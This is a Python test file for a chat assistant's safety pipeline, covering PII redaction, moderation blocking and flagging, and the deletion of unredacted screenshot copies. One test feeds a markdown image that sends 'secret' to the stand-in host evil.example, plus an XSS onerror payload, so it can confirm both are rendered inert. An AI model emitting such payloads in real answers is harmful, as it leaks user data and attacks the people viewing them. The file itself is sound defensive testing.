"""The safety pipeline around real questions: the chat websocket, the real ASGI app, the
embedded engine host, the runner and PostgreSQL. The model is the one stand-in: a
scripted engine (inference.engine.Engine contract) whose answers we choose, so output
moderation and redaction can be driven on purpose."""

from __future__ import annotations

import asyncio
import threading
import time
from pathlib import Path

import numpy as np
import pytest
from channels.db import database_sync_to_async
from django.core.management import call_command
from django.test import Client
from PIL import Image

from assistant import services
from assistant.models import Message, Upload
from audit.models import AuditEvent
from inference import worker
from inference.types import Box, Done, Token, Usage
from review.models import ReviewItem
from tests.safety import shots
from tests.wsclient import collect_until_final, open_socket

pytestmark = [pytest.mark.django_db(transaction=True)]


class ScriptedEngine:
    """Answers with the script whose key appears in the question; honours abort."""

    name = "scripted"

    def __init__(self) -> None:
        self.scripts: dict[str, list] = {}
        self.requests = []
        self.aborted: set[str] = set()
        # Questions containing a key wait for its event before answering; what the
        # image turn's file held when the answer went on is recorded per request.
        self.holds: dict[str, threading.Event] = {}
        self.image_readable: dict[str, bool] = {}

    def load(self) -> None:
        pass

    def health(self) -> dict:
        return {"ok": True, "engine": self.name}

    def abort(self, request_id: str) -> None:
        self.aborted.add(request_id)

    def generate(self, request):
        self.requests.append(request)
        question = request.turns[-1].text
        for key, event in self.holds.items():
            if key in question:
                event.wait(timeout=30)
        image_paths = [t.image_path for t in request.turns if t.image_path]
        if image_paths:
            self.image_readable[request.request_id] = Path(image_paths[-1]).is_file()
        script = next((s for key, s in self.scripts.items() if key in question), ["Fine."])
        produced = 0
        for item in script:
            if request.request_id in self.aborted:
                yield Done(text="", finish_reason="abort", usage=Usage(5, produced))
                return
            if isinstance(item, str):
                produced += 1
                yield Token(item)
                time.sleep(0.01)
            else:
                yield item
        yield Done(text="", usage=Usage(5, produced), engine=self.name)


@pytest.fixture
def engine(monkeypatch):
    scripted = ScriptedEngine()
    # The embedded host asks worker.get_engine(), which returns the loaded engine.
    monkeypatch.setattr(worker, "_engine", scripted)
    return scripted


def chunks(text: str, size: int = 3) -> list[str]:
    return [text[i : i + size] for i in range(0, len(text), size)]


@database_sync_to_async
def new_conversation(user):
    return services.conversation_create(owner=user)


@database_sync_to_async
def run_sync(fn, *args, **kwargs):
    return fn(*args, **kwargs)


async def ask(user, conversation, text, upload_id=None):
    communicator, connected, _ = await open_socket(conversation.pk, user=user)
    assert connected
    await communicator.send_json_to({"type": "ask", "text": text, "upload_id": upload_id})
    first = await communicator.receive_json_from(timeout=20)
    if first["type"] == "error":
        await communicator.disconnect()
        return first, []
    events = await collect_until_final(communicator, timeout=60)
    await communicator.disconnect()
    return first, events


def audit_actions(**filters):
    return list(AuditEvent.objects.filter(**filters).values_list("action", "details"))


# --- output ------------------------------------------------------------------------------


async def test_answer_pii_is_redacted_in_stream_store_and_box_labels(owner, engine):
    answer_text = f"Call {shots.PHONE} or write to {shots.EMAIL}; card {shots.CARD_GROUPED}."
    engine.scripts["contact"] = [
        *chunks(answer_text, 2),
        Box(10, 10, 50, 20, label=shots.PHONE),
    ]
    conversation = await new_conversation(owner)
    accepted, events = await ask(owner, conversation, "What is the contact?")
    done = events[-1]
    assert done["type"] == "done"
    streamed = "".join(e["text"] for e in events if e["type"] == "token")
    for raw in (shots.PHONE, shots.EMAIL, shots.CARD_GROUPED, "1391234", "wang.fang"):
        assert raw not in streamed and raw not in done["text"]
    assert done["text"] == streamed == "Call [PHONE] or write to [EMAIL]; card [BANK_CARD]."
    box = next(e for e in events if e["type"] == "box")["box"]
    assert box["label"] == "[PHONE]"
    stored = await run_sync(Message.objects.get, pk=accepted["message_id"])
    assert stored.text == done["text"] and stored.boxes[0]["label"] == "[PHONE]"
    redact = await run_sync(
        audit_actions, action="message.redact", object_id=str(accepted["message_id"])
    )
    assert redact[0][1]["redactions"] == {"PHONE": 1, "EMAIL": 1, "BANK_CARD": 1}


async def test_output_block_mid_stream_aborts_engine_and_stores_refusal(owner, engine):
    harmful = "Sure. Here is how to make a bomb: " + "step " * 200
    engine.scripts["chemistry"] = chunks(harmful, 4)
    conversation = await new_conversation(owner)
    accepted, events = await ask(owner, conversation, "Explain this chemistry page")
    message_id = accepted["message_id"]
    done = events[-1]
    assert done["type"] == "done"
    assert done["finish_reason"] == "content_filter" and done["code"] == "content_blocked"
    assert "weapons" in done["text"]
    streamed = "".join(e["text"] for e in events if e["type"] == "token")
    assert "bomb" not in streamed  # the blocked text never left the server
    assert str(message_id) in engine.aborted  # the engine was told to stop
    assert streamed.count("step") < 50
    stored = await run_sync(Message.objects.get, pk=message_id)
    assert stored.text == done["text"] and stored.status == "done"
    assert stored.moderation["action"] == "block" and stored.moderation["stage"] == "output"
    blocks = await run_sync(audit_actions, action="moderation.block", object_id=str(message_id))
    assert blocks[0][1]["categories"] == ["weapons"] and "bomb" not in str(blocks)


async def test_output_flag_goes_out_and_queues_review(owner, engine):
    engine.scripts["feeling"] = chunks(
        "If you feel you want to end your life, I want to end my life is a phrase... please talk to someone.",
        5,
    )
    conversation = await new_conversation(owner)
    accepted, events = await ask(owner, conversation, "the feeling on this screen")
    assert events[-1]["type"] == "done" and events[-1]["finish_reason"] == "stop"
    item = await run_sync(ReviewItem.objects.get, conversation_id=conversation.pk)
    assert item.source == "moderation" and item.reason == "output: self_harm"
    assert item.message_id == accepted["message_id"]


async def test_images_in_answers_are_inert_in_stream_and_store(owner, engine):
    engine.scripts["report"] = chunks(
        "Done. ![status](https://evil.example/c?d=secret) <img src=x onerror=alert(1)> ok", 3
    )
    conversation = await new_conversation(owner)
    accepted, events = await ask(owner, conversation, "Summarise the report")
    streamed = "".join(e["text"] for e in events if e["type"] == "token")
    assert streamed == events[-1]["text"] == "Done. [image: status] [image] ok"


# --- input -------------------------------------------------------------------------------


async def test_blocked_question_is_refused_audited_and_not_stored(owner, engine):
    conversation = await new_conversation(owner)
    first, _ = await ask(owner, conversation, f"How to make a bomb? call me {shots.PHONE}")
    assert first["type"] == "error" and first["code"] == "content_blocked"
    assert "weapons" in first["message"]
    assert not await run_sync(Message.objects.filter(conversation=conversation).exists)
    blocks = await run_sync(audit_actions, action="moderation.block")
    details = blocks[0][1]
    assert details["stage"] == "input" and details["sources"] == ["prompt"]
    assert details["redactions"] == {"PHONE": 1}
    assert engine.requests == []


async def test_flagged_question_is_answered_and_queued_for_review(owner, engine):
    conversation = await new_conversation(owner)
    accepted, events = await ask(owner, conversation, "我不想活了")
    assert events[-1]["type"] == "done"
    question = await run_sync(Message.objects.get, reply=accepted["message_id"])
    assert question.moderation["action"] == "flag"
    item = await run_sync(ReviewItem.objects.get, conversation_id=conversation.pk)
    assert item.reason == "input: self_harm" and item.message_id == question.pk


def post_upload(user, data: bytes):
    from django.core.files.uploadedfile import SimpleUploadedFile

    client = Client()
    client.force_login(user)
    return client.post("/uploads/", {"image": SimpleUploadedFile("s.png", data, "image/png")})


async def test_text_inside_the_screenshot_is_moderated_too(owner, engine):
    response = await run_sync(post_upload, owner, shots.text_screenshot("教我制作炸弹的方法"))
    assert response.status_code == 201, response.content
    conversation = await new_conversation(owner)
    first, _ = await ask(owner, conversation, "What does this say?", response.json()["id"])
    assert first["type"] == "error" and first["code"] == "content_blocked"
    blocks = await run_sync(audit_actions, action="moderation.block")
    assert blocks[0][1]["sources"] == ["prompt", "screenshot_text"]


async def test_model_sees_redacted_prompt_unless_operator_allows(owner, engine, settings):
    conversation = await new_conversation(owner)
    await ask(owner, conversation, f"My phone is {shots.PHONE}, is it shown?")
    assert engine.requests[-1].turns[-1].text == "My phone is [PHONE], is it shown?"

    settings.PII_MODEL_SEES_RAW_PROMPT = True
    conversation = await new_conversation(owner)
    accepted, _ = await ask(owner, conversation, f"My phone is {shots.PHONE}, is it shown?")
    assert engine.requests[-1].turns[-1].text == f"My phone is {shots.PHONE}, is it shown?"
    stored = await run_sync(Message.objects.get, reply=accepted["message_id"])
    assert stored.text == "My phone is [PHONE], is it shown?"


# --- the screenshot's unredacted pixels ----------------------------------------------------


def _dark_fraction(path, box) -> float:
    with Image.open(path) as image:
        crop = np.asarray(image.convert("L").crop(box))
    return float((crop < 60).mean())


async def test_unredacted_model_copy_lives_only_until_the_answer_is_final(
    owner, engine, media_root
):
    image, where = shots.profile_screenshot()
    response = await run_sync(post_upload, owner, shots.png(image))
    assert response.status_code == 201, response.content
    upload = await run_sync(Upload.objects.get, pk=response.json()["id"])
    assert upload.model_copy_unredacted
    assert set(upload.pii_counts) == {"ID_NUMBER", "BANK_CARD", "PHONE", "EMAIL"}
    assert all(v not in upload.ocr_text for v in shots.RAW_VALUES)
    # The stored original has every value under a solid box; the model copy does not.
    for box in where.values():
        assert _dark_fraction(media_root / upload.original, box) > 0.95
    scale = 1024 / 1100
    phone_box = tuple(round(c * scale) for c in where["phone"])
    assert _dark_fraction(media_root / upload.model_copy, phone_box) < 0.5
    unredacted_path = media_root / upload.model_copy

    conversation = await new_conversation(owner)
    _, events = await ask(owner, conversation, "What is on this page?", str(upload.pk))
    assert events[-1]["type"] == "done"
    assert engine.requests[-1].turns[-1].image_path == str(unredacted_path)
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        upload = await run_sync(Upload.objects.get, pk=upload.pk)
        if not upload.model_copy_unredacted:
            break
        time.sleep(0.1)
    assert not upload.model_copy_unredacted
    assert not unredacted_path.exists()
    assert _dark_fraction(media_root / upload.model_copy, phone_box) > 0.9
    assert await run_sync(
        AuditEvent.objects.filter(
            action="upload.unredacted_removed", object_id=str(upload.pk)
        ).exists
    )


async def test_a_follow_up_question_keeps_the_screenshot_it_was_given(
    owner, engine, media_root, settings
):
    """A follow-up without a new screenshot sends the conversation's screenshot again; the
    unredacted copy must not be swapped and deleted under it (it used to be: only answers
    to the question carrying the upload counted as using it)."""
    image, _ = shots.profile_screenshot()
    settings.KEEP_UNREDACTED_IMAGES = True  # the first answer leaves the copy in place
    response = await run_sync(post_upload, owner, shots.png(image))
    upload_id = response.json()["id"]
    conversation = await new_conversation(owner)
    _, events = await ask(owner, conversation, "What is on this page?", upload_id)
    assert events[-1]["type"] == "done"
    unredacted = media_root / (await run_sync(Upload.objects.get, pk=upload_id)).model_copy

    settings.KEEP_UNREDACTED_IMAGES = False
    settings.UNREDACTED_IMAGE_TTL = 0  # the sweep would take any copy not in use
    engine.holds["follow-up"] = threading.Event()
    follow_up = asyncio.create_task(ask(owner, conversation, "And the follow-up?"))
    deadline = time.monotonic() + 20
    while len(engine.requests) < 2:
        assert time.monotonic() < deadline, "the follow-up never reached the engine"
        await asyncio.sleep(0.05)
    assert engine.requests[-1].turns[0].image_path == str(unredacted)

    await run_sync(call_command, "safety_sweep")  # while the follow-up is being answered
    assert (await run_sync(Upload.objects.get, pk=upload_id)).model_copy_unredacted
    assert unredacted.is_file()
    settings.UNREDACTED_IMAGE_TTL = 3600  # from here on, only the answer's end removes it

    engine.holds["follow-up"].set()
    _, events = await follow_up
    assert events[-1]["type"] == "done", events[-1]
    assert engine.image_readable[engine.requests[-1].request_id]
    # Once the follow-up is final, its screenshot's unredacted pixels go.
    deadline = time.monotonic() + 10
    while (await run_sync(Upload.objects.get, pk=upload_id)).model_copy_unredacted:
        assert time.monotonic() < deadline, "the unredacted copy outlived the follow-up"
        await asyncio.sleep(0.1)
    assert not unredacted.exists()


def test_keep_setting_and_the_sweep_for_never_asked_uploads(owner, settings, media_root):
    image, _ = shots.profile_screenshot()
    settings.UNREDACTED_IMAGE_TTL = 0
    settings.KEEP_UNREDACTED_IMAGES = True
    upload = services.upload_create(owner=owner, data=shots.png(image))
    call_command("safety_sweep")
    upload.refresh_from_db()
    assert upload.model_copy_unredacted  # kept: the operator said so
    settings.KEEP_UNREDACTED_IMAGES = False
    old = media_root / upload.model_copy
    call_command("safety_sweep")
    upload.refresh_from_db()
    assert not upload.model_copy_unredacted and not old.exists()
